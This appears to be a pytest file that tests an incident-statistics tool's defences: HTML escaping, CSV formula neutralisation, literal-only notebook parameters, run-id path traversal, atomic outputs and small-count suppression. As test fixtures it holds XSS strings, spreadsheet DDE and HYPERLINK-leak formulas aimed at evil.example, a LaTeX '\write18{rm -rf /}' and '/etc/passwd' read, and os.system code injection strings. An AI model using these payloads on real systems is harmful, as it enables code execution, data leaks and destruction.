"""Security guarantees (docs/security.md): inert data, parameters as data, safe files, privacy.

Hostile strings stay text in HTML and CSV; notebook parameters are literals and run ids
stay inside the output folder; inputs and data/raw/ are never written; outputs are
atomic and reproducible; published tables can be suppressed and list no one by default.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import hashlib
import json
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import clirun
import nbformat
import pandas as pd
import pytest
from conftest import REPO

import incidentstats as ist
from incidentstats import _files, notebook, report
from incidentstats.errors import ParameterError
from incidentstats.ingest import Ingested, ingest

BAD = Path(__file__).parent / "data" / "bad"
HOSTILE_FILE = BAD / "hostile_strings.csv"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Strings that would do something if a browser, Markdown, LaTeX or a spreadsheet ran them.
HOSTILE = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "</td></tr></table><h1>pwned</h1>",
    "**bold** [link](http://evil.example)",
    r"$\input{/etc/passwd}$ \write18{rm -rf /}",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def forked_cli(*args, cwd=None, timeout=300):
    """The same command in a fork of a process that imported it once (tests/clirun.py)."""
    return clirun.run(*args, cwd=cwd, timeout=timeout)


def cli(*args, cwd=None, timeout=300):
    return subprocess.run(
        [sys.executable, "-m", "incidentstats.cli", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=timeout,
    )


def one_line_error(proc) -> str:
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.splitlines()
    assert len(lines) == 1, proc.stderr
    assert lines[0].startswith("incidentstats: error: ")
    return lines[0]


def csv_cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return text.strip("+-").replace(",", "").replace(".", "").replace("e", "").isdigit()


def assert_no_live_formula(path) -> None:
    """No cell of a CSV starts a spreadsheet formula, unless it is just a signed number."""
    for row in csv_cells(path):
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert cell[0] in "+-" and is_number(cell), f"{path.name}: live formula {cell!r}"


# --- hostile strings in HTML --------------------------------------------------------------


def test_html_table_escapes_every_cell_header_and_caption():
    table = pd.DataFrame({"organisation": HOSTILE, "<b>col</b>": range(len(HOSTILE))})
    out = notebook.html_table(table, caption="<script>cap</script>")
    assert "<script" not in out and "<img" not in out and "<h1>" not in out and "<b>" not in out
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in out
    assert "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;h1&gt;pwned&lt;/h1&gt;" in out
    assert "&lt;b&gt;col&lt;/b&gt;" in out and "&lt;script&gt;cap&lt;/script&gt;" in out
    # Markdown and LaTeX are shown as typed (html_table does not interpret them)
    assert "**bold** [link](http://evil.example)" in out and "<strong>" not in out
    assert r"$\input{/etc/passwd}$" in out
    # one <tr> per data row: no row was closed early by a hostile cell
    assert out.count("<tr>") == len(HOSTILE) + 1


def test_headline_data_note_and_text_escape_values():
    rep = notebook.Report()
    cards = rep.headline(
        [
            {
                "value": "<script>v</script>",
                "label": "<img src=x onerror=alert(2)>",
                "ci": "<b>ci</b>",
            }
        ]
    ).markup
    assert "<script" not in cards and "<img" not in cards and "<b>" not in cards
    assert "&lt;script&gt;v&lt;/script&gt;" in cards and "&lt;b&gt;ci&lt;/b&gt;" in cards

    df = pd.DataFrame({"x": [1]})
    df.attrs["provenance"] = {
        "dataset": "<script>alert('file name')</script>.csv",  # a file may be named so
        "as_of": "<i>2024</i>",
        "period": {"start": "<u>a</u>", "end": "b"},
        "filters": {"regions": "<svg onload=alert(3)>"},
        "rows_quarantined": 1,
    }
    for lang in ("en", "fr"):
        note = notebook.Report(lang=lang).data_note(df).markup
        assert note.startswith('<p class="provenance">') and note.count("<") == 2
        assert "&lt;script&gt;alert(&#x27;file name&#x27;)&lt;/script&gt;.csv" in note
        assert "&lt;svg onload=alert(3)&gt;" in note

    para = rep.text("Largest: {name}", name="<script>x</script>").markup
    assert para == "<p>Largest: &lt;script&gt;x&lt;/script&gt;</p>"


# --- hostile strings in every CSV the project writes -----------------------------------


@pytest.fixture(scope="module")
def hostile_clean(tmp_path_factory):
    """`clean` on the hostile file copied under a formula-like name, with one bad row."""
    work = tmp_path_factory.mktemp("hostile")
    name = "=1+2.csv"  # the file name lands in source_file cells
    text = HOSTILE_FILE.read_text(encoding="utf-8")
    bad_row = '"@Quarantined Clinic","TX","Healthcare Provider","-7","03/15/2021","Theft","Laptop","No","x"\n'
    (work / name).write_text(text + bad_row, encoding="utf-8")
    proc = cli("clean", name, "-o", "out", cwd=work)
    assert proc.returncode == 0, proc.stderr
    return work


def test_clean_writes_csv_with_formulas_neutralised(hostile_clean):
    out = hostile_clean / "out"
    for name in ("incidents.csv", "quarantine.csv"):
        assert_no_live_formula(out / name)
    incidents = pd.read_csv(out / "incidents.csv", dtype=str, keep_default_na=False)
    names = set(incidents["organisation"])
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in names
    assert "'+cmd|' /C calc'!A0" in names
    assert "'@SUM(1+9)*cmd|' /C calc'!A0" in names
    assert "'-2+3+cmd|' /C calc'!A0" in names
    assert "Genuine & Sons <Clinic>" in names  # nothing to neutralise: left as it is
    assert set(incidents["source_file"]) == {"'=1+2.csv"}
    # a description that starts with a minus but is not a number is neutralised too
    assert "'-12 is a negative number; so is -3.5" in set(incidents["description"])
    # counts stay numbers
    assert sorted(pd.to_numeric(incidents["records_affected"])) == [1200] * 5 + [4200]
    quarantine = pd.read_csv(out / "quarantine.csv", dtype=str, keep_default_na=False)
    assert quarantine["source_file"].tolist() == ["'=1+2.csv"]
    assert quarantine["reason"].tolist() == ["negative Individuals Affected"]
    # the raw row is JSON: it starts with '{' and keeps the hostile name as typed
    assert json.loads(quarantine["raw"][0])["Name of Covered Entity"] == "@Quarantined Clinic"


def test_the_parquet_table_keeps_the_data_as_typed(hostile_clean):
    # Neutralising is for spreadsheets; the canonical table holds what the source said.
    table = pd.read_parquet(hostile_clean / "out" / "incidents.parquet")
    assert "+cmd|' /C calc'!A0" in set(table["organisation"])
    assert "<script>alert('x')</script>" in set(table["description"])


def test_report_table_csv_neutralises_formulas_and_keeps_negative_numbers(tmp_path):
    hostile_col = "=cmd|' /C calc'!A0"  # a crosstab's columns come from the data
    table = pd.DataFrame(
        {
            "value": [*HOSTILE, "-12", "-1,234.5", "+3.5", "-inf", "plain"],
            "x": [-12] * len(HOSTILE) + [1, 2, 3, 4, 5],
            "share": [-3.5] * len(HOSTILE) + [0.1, 0.2, 0.3, 0.4, 0.5],
            hostile_col: pd.Categorical(["=A1"] * (len(HOSTILE) + 5)),
        }
    )
    before = table.copy()
    rep = notebook.Report(output_dir=tmp_path, name="nb")
    rep.table(table, "hostile")
    pd.testing.assert_frame_equal(table, before)  # the caller's table is not changed
    path = tmp_path / "tables" / "nb-hostile.csv"
    assert_no_live_formula(path)
    rows = csv_cells(path)
    assert rows[0] == ["value", "x", "share", "'" + hostile_col]
    values = [r[0] for r in rows[1:]]
    assert values[: len(HOSTILE)] == [
        v if not v.startswith(FORMULA_START) else "'" + v for v in HOSTILE
    ]
    assert values[len(HOSTILE) :] == ["-12", "-1,234.5", "+3.5", "'-inf", "plain"]
    assert {r[1] for r in rows[1 : len(HOSTILE) + 1]} == {"-12"}  # numbers stay numbers
    assert {r[2] for r in rows[1 : len(HOSTILE) + 1]} == {"-3.5"}
    assert {r[3] for r in rows[1:]} == {"'=A1"}  # categorical cells too
    back = pd.read_csv(path)
    assert back["x"].dtype.kind == "i" and back["share"].dtype.kind == "f"


def test_write_csv_neutralises_index_labels_and_list_cells(tmp_path):
    df = pd.DataFrame({"categories": [["=evil", "theft"], ["loss"]]}, index=["@idx", "ok"])
    _files.write_csv(tmp_path / "t.csv", df, index=True)
    assert csv_cells(tmp_path / "t.csv") == [
        ["", "categories"],
        ["'@idx", "'=evil; theft"],
        ["ok", "loss"],
    ]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("@A1", "'@A1"),
        ("-A1", "'-A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-1e5", "-1e5"),
        ("-0.5", "-0.5"),
        ("-.5", "-.5"),
        ("+12", "+12"),
        ("-1,234,567", "-1,234,567"),
        ("-1,2", "'-1,2"),
        ("-nan", "'-nan"),
        ("-1+2", "'-1+2"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        (-7, -7),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert _files.neutralise_formula(value) == expected


# --- parameters are data, never code --------------------------------------------------------

CODE = '__import__("os").system("touch {marker}")'


def test_coerce_value_keeps_code_as_text():
    code = CODE.format(marker="/tmp/x")
    assert report.coerce_value("mapping", code, "str") == code
    assert report.coerce_value("regions", code, "list") == [code]
    assert report.coerce_value("regions", f"[{code!r}]", "list") == [code]
    with pytest.raises(ParameterError, match="expected int"):
        report.coerce_value("top_n", code, "int")
    # a YAML python tag is refused by safe_load and stays a plain string
    tag = "!!python/object/apply:os.system ['touch /tmp/x']"
    assert report.coerce_value("mapping", tag, "str") == tag


def test_papermill_injects_parameters_as_literals(tmp_path):
    from papermill.iorw import load_notebook_node
    from papermill.parameterize import parameterize_notebook

    marker = tmp_path / "pwned"
    code = CODE.format(marker=marker)
    # a file parameter holding code is refused before any kernel starts: no such file
    with pytest.raises(ist.IncidentstatsError, match="mapping"):
        report.prepare_run(
            params={"mapping": code},
            notebooks=["overview"],
            outdir=tmp_path / "reports",
            run_id="r",
        )
    params = {"regions": code + ", TX", "categories": f"[{code!r}]"}
    plan = report.prepare_run(
        params=params, notebooks=["overview"], outdir=tmp_path / "reports", run_id="r"
    )
    (name, path, checked) = plan.notebooks[0]
    assert checked["regions"] == [code, "TX"]
    nb = parameterize_notebook(load_notebook_node(path), checked)  # as papermill does
    injected = [
        c for c in nb.cells if "injected-parameters" in c.get("metadata", {}).get("tags", [])
    ]
    assert len(injected) == 1
    tree = ast.parse(injected[0].source)
    values = {}
    for stmt in tree.body:
        assert isinstance(stmt, ast.Assign), ast.dump(stmt)  # only name = literal
        values[stmt.targets[0].id] = ast.literal_eval(stmt.value)  # raises if not a literal
    assert values["regions"] == [code, "TX"]
    assert values["categories"] == [code]
    assert not any(isinstance(n, ast.Call) for n in ast.walk(tree))
    assert not marker.exists()
    assert not (tmp_path / "reports").exists()  # preparing writes nothing


@pytest.mark.parametrize(
    "param, expected",
    [
        ("top_n", "parameter 'top_n': expected int"),
        ("start", "parameter 'start': expected an ISO date"),
        ("list_incidents", "parameter 'list_incidents': expected bool"),
        ("suppression", "parameter 'suppression': expected one of"),
    ],
)
def test_report_refuses_code_in_typed_parameters_before_any_kernel(tmp_path, param, expected):
    marker = tmp_path / "pwned"
    out = tmp_path / "reports"
    proc = forked_cli(
        "report", "--notebooks", "overview", "-p", f"{param}={CODE.format(marker=marker)}",
        "-o", out, cwd=tmp_path, timeout=120,
    )  # fmt: skip
    assert expected in one_line_error(proc)
    assert not marker.exists() and not out.exists()


def test_params_file_with_a_python_tag_is_refused(tmp_path):
    marker = tmp_path / "pwned"
    params = tmp_path / "params.yaml"
    params.write_text(f"top_n: !!python/object/apply:os.system ['touch {marker}']\n")
    proc = forked_cli("report", "--params", params, "-o", tmp_path / "reports", cwd=tmp_path)
    assert "not a readable YAML file (ConstructorError)" in one_line_error(proc)
    assert not marker.exists()


@pytest.mark.parametrize(
    "run_id", ["../x", "/tmp/x", "x/../../y", "..", ".hidden", "", "a\\b", "x" * 101]
)
def test_run_ids_cannot_leave_the_output_folder(tmp_path, run_id):
    with pytest.raises(ParameterError, match=r"parameter 'run_id': .* must be 1 to 100 letters"):
        report.prepare_run(notebooks=["overview"], outdir=tmp_path / "reports", run_id=run_id)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("run_id", ["../x", "/tmp/x"])
def test_cli_run_id_escape_is_one_line_exit_2(tmp_path, run_id):
    target = (tmp_path / "reports" / run_id).resolve()
    existed = target.exists()
    out = tmp_path / "reports"
    proc = forked_cli(
        "report", "--notebooks", "overview", "--run-id", run_id, "-o", out, cwd=tmp_path
    )
    assert f"parameter 'run_id': '{run_id}' must be" in one_line_error(proc)
    assert list(tmp_path.iterdir()) == []
    assert target.exists() == existed


# --- files: read-only inputs, atomic and reproducible outputs --------------------------------


def tree_hashes(*roots) -> dict[str, str]:
    out = {}
    for root in roots:
        paths = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
        for p in paths:
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


@pytest.mark.slow
def test_inputs_and_data_raw_are_never_modified(tmp_path):
    raw = REPO / "data" / "raw"
    example = raw / "examples"
    inputs = [BAD / "hostile_strings.csv", BAD / "prc_bad_rows.csv"]
    before = tree_hashes(raw, *inputs)
    listing = sorted(p.name for p in BAD.iterdir())
    assert len(before) >= 6

    proc = cli("clean", *inputs, "-o", tmp_path / "clean")
    assert proc.returncode == 0, proc.stderr
    proc = cli(
        "clean", example / "register_fr_example.csv", "--source", "csv",
        "--mapping", example / "register_fr_example.yaml", "-o", tmp_path / "register",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    proc = cli(
        "report", "--source", "csv", "-i", example / "register_fr_example.csv",
        "-p", f"mapping={example / 'register_fr_example.yaml'}", "--notebooks", "overview",
        "--format", "html", "-o", tmp_path / "reports", "--run-id", "r",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr

    assert tree_hashes(raw, *inputs) == before
    assert sorted(p.name for p in BAD.iterdir()) == listing  # nothing added beside inputs
    assert not [p for p in raw.rglob("*") if p.name.endswith(".part") or p.name.startswith(".")]


def test_clean_into_a_file_or_an_unwritable_place_is_one_line(tmp_path):
    target = tmp_path / "taken"
    target.write_text("keep me\n")
    proc = forked_cli("clean", BAD / "hhs_bad_counts.csv", "-o", target)
    assert f"parameter '--output': {target} is a file; expected a folder" in one_line_error(proc)
    assert target.read_text() == "keep me\n"
    # a folder below a file cannot be created: an OSError while writing, reported in one line
    proc = forked_cli("clean", BAD / "hhs_bad_counts.csv", "-o", target / "sub")
    assert f"parameter '--output': cannot write to {target / 'sub'}:" in one_line_error(proc)


def small_result() -> Ingested:
    return ingest("auto", [BAD / "hhs_bad_counts.csv"])


def test_ingested_write_is_all_or_nothing(tmp_path, monkeypatch):
    first = small_result()
    paths = first.write(tmp_path)
    before = {p.name: p.read_bytes() for p in paths.values()}

    second = ingest("auto", [HOSTILE_FILE])
    calls = []

    def half_then_fail(df, path, **kw):
        calls.append(path)
        if len(calls) == 2:  # the quarantine CSV, after incidents.parquet/.csv are done
            Path(path).write_text("source_file,source_row,rea", encoding="utf-8")
            raise OSError("disk full")
        return real_dump(df, path, **kw)

    real_dump = _files.dump_csv
    ingest_module = sys.modules["incidentstats.ingest"]  # the package's `ingest` is the function
    monkeypatch.setattr(ingest_module, "dump_csv", half_then_fail)
    with pytest.raises(OSError, match="disk full"):
        second.write(tmp_path)
    after = {p.name: p.read_bytes() for p in sorted(tmp_path.iterdir()) if p.is_file()}
    assert after == before  # the previous complete set
    assert not list(tmp_path.rglob("*.part"))  # temporary files removed

    monkeypatch.setattr(ingest_module, "dump_csv", real_dump)
    second.write(tmp_path)
    prov = json.loads((tmp_path / "provenance.json").read_text())
    assert prov["inputs"][0]["path"] == str(HOSTILE_FILE)
    assert len(pd.read_parquet(tmp_path / "incidents.parquet")) == 6


def test_ingested_write_interrupted_leaves_no_file(tmp_path, monkeypatch):
    def interrupted(self, path, **kw):
        Path(path).write_bytes(b"PAR1 partial")
        raise KeyboardInterrupt

    monkeypatch.setattr(pd.DataFrame, "to_parquet", interrupted)
    with pytest.raises(KeyboardInterrupt):
        small_result().write(tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


def test_write_csv_failure_keeps_the_previous_file(tmp_path, monkeypatch):
    path = tmp_path / "t.csv"
    _files.write_csv(path, pd.DataFrame({"a": [1, 2]}))
    before = path.read_bytes()

    def partial(self, target, **kw):
        Path(target).write_text("a\n1\n", encoding="utf-8")
        raise RuntimeError("crash while writing")

    monkeypatch.setattr(pd.DataFrame, "to_csv", partial)
    with pytest.raises(RuntimeError):
        _files.write_csv(path, pd.DataFrame({"a": [3, 4, 5]}))
    with pytest.raises(RuntimeError):
        _files.write_csv(tmp_path / "new.csv", pd.DataFrame({"a": [3]}))
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


def test_rerunning_clean_gives_byte_identical_outputs(tmp_path):
    inputs = [
        HOSTILE_FILE,
        BAD / "hhs_bad_counts.csv",
        BAD / "prc_bad_rows.csv",
        BAD / "veris_array_one_bad.json",
    ]
    for name in ("a", "b"):
        proc = cli("clean", *inputs, "-o", tmp_path / name)
        assert proc.returncode == 0, proc.stderr
    files = sorted(p.name for p in (tmp_path / "a").iterdir() if not p.name.startswith("."))
    assert files == [
        "duplicates.csv",
        "incidents.csv",
        "incidents.parquet",
        "provenance.json",
        "quarantine.csv",
    ]
    for name in files:
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name
    prov = (tmp_path / "a" / "provenance.json").read_text()
    assert str(tmp_path) not in prov  # where the outputs went is not part of them
    assert dt.date.today().isoformat() not in prov  # no time stamp


def test_rerunning_statistics_gives_identical_tables(tmp_path):
    def tables(folder: Path) -> dict[str, bytes]:
        df = ist.load("auto", [HOSTILE_FILE, BAD / "prc_bad_rows.csv", BAD / "hhs_bad_counts.csv"])
        rep = notebook.Report(output_dir=folder, name="s")
        rep.table(ist.shares(df, by="categories"), "shares")
        rep.table(ist.counts_by_period(df, freq="Y"), "per-year")
        rep.table(ist.crosstab(df, rows="region", cols="origin"), "crosstab")
        rep.table(notebook.largest_incidents(df), "largest")
        return {p.name: p.read_bytes() for p in sorted((folder / "tables").iterdir())}

    assert tables(tmp_path / "a") == tables(tmp_path / "b")


# --- privacy ----------------------------------------------------------------------------------


def test_incident_lists_are_opt_in():
    overview = report.available_notebooks()["overview"]
    declared = report.declared_parameters(overview)
    assert declared["list_incidents"] == {"type": "bool", "default": "False"}
    code = notebook_code(overview)
    assert "nb.largest_incidents(df, n=top_n, names=list_incidents)" in code

    df = ist.load("hhs")
    anonymous = notebook.largest_incidents(df, n=5)
    assert "organisation" not in anonymous.columns and len(anonymous) == 5
    named = notebook.largest_incidents(df, n=5, names=True)
    assert named["organisation"].notna().all()


def html_rows(markup: str) -> list[list[str]]:
    """The text of each cell of each row of an HTML table (no lxml needed)."""

    class Rows(HTMLParser):
        def __init__(self):
            super().__init__()
            self.rows, self.cell = [], None

        def handle_starttag(self, tag, attrs):
            if tag == "tr":
                self.rows.append([])
            elif tag in ("td", "th"):
                self.cell = ""

        def handle_endtag(self, tag):
            if tag in ("td", "th"):
                self.rows[-1].append(self.cell)
                self.cell = None

        def handle_data(self, data):
            if self.cell is not None:
                self.cell += data

    parser = Rows()
    parser.feed(markup)
    return parser.rows


def notebook_code(path) -> str:
    nb = nbformat.read(str(path), as_version=4)
    return "\n".join(c.source for c in nb.cells if c.cell_type == "code")


@pytest.mark.parametrize("name", sorted(report.available_notebooks()))
def test_every_notebook_that_publishes_tables_has_the_suppression_switch(name):
    path = report.available_notebooks()[name]
    code = notebook_code(path)
    if ".table(" not in code:
        pytest.skip(f"{name} publishes no table")
    params = report.declared_parameters(path)
    assert params.get("suppression") == {"type": "str", "default": '""'}, name
    assert re.search(r"nb\.start\([^)]*suppression=suppression", code), name


def test_suppression_masks_small_counts_in_html_and_csv(tmp_path):
    df = ist.load("hhs")
    small = df[df["region"].isin(["AK", "TX", "VT", "WY"])]
    table = ist.crosstab(small, rows="region", cols="origin")
    counts = table.set_index(["row", "col"])["x"]
    assert (counts < 11).sum() >= 6 and (counts >= 11).sum() == 3  # the test has something to mask

    rep = notebook.Report(output_dir=tmp_path, name="nb", suppression="fr")
    html = rep.table(table, "origin-by-region").markup
    saved = pd.read_csv(tmp_path / "tables" / "nb-origin-by-region.csv", keep_default_na=False)
    header, *body = html_rows(html)
    shown = pd.DataFrame(body, columns=header)
    assert len(saved) == len(shown) == len(table)
    x = pd.to_numeric(saved["x"], errors="coerce")
    assert ((x >= 11) | x.isna()).all()  # nothing under 11 in the CSV
    assert x.isna().sum() >= (counts < 11).sum()
    for col in ("x", "n_row", "share_of_row", "lower", "upper"):
        assert saved.loc[x.isna(), col].eq("").all(), col  # masked cells hide their shares too
    visible = pd.to_numeric(shown["incidents"].astype(str).str.replace(",", ""), errors="coerce")
    assert ((visible >= 11) | visible.isna()).all()  # nor in the displayed table
    assert (shown.loc[visible.isna(), "incidents"] == "—").all()
    assert visible.dropna().astype(int).tolist() == [15, 65, 20]

    plain = notebook.Report(output_dir=tmp_path, name="plain").table(table, "t")
    assert ">3<" in plain.markup  # without suppression the small counts are shown


def test_suppression_masks_every_small_count_column_of_a_shares_table(tmp_path):
    table = ist.shares(ist.load("hhs"), by="categories")
    assert (table["n_unknown"] < 11).any()
    notebook.Report(output_dir=tmp_path, name="nb", suppression="fr").table(table, "s")
    saved = pd.read_csv(tmp_path / "tables" / "nb-s.csv")
    for col in ("x", "n", "n_unknown", "n_total"):
        values = pd.to_numeric(saved[col], errors="coerce").dropna()
        assert (values >= 11).all(), col
